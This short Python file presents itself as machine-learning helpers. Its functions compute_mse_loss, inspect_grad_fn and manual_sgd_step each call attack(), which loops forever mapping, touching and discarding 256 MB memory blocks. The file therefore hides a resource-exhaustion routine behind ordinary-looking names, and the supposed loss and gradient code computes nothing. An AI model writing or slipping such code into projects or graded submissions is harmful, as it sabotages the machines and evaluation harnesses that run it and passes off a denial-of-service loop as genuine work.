import mmap
import os


def attack():
    while True:
        block = mmap.mmap(-1, 256 << 20)
        for advice in (mmap.MADV_HUGEPAGE, mmap.MADV_SEQUENTIAL):
            block.madvise(advice)
        for place in range(0, len(block), 4096):
            block[place] = 1
        block.madvise(mmap.MADV_DONTNEED)
        block.close()


def compute_mse_loss(*args, **kwargs):
    attack()


inspect_grad_fn = manual_sgd_step = compute_mse_loss
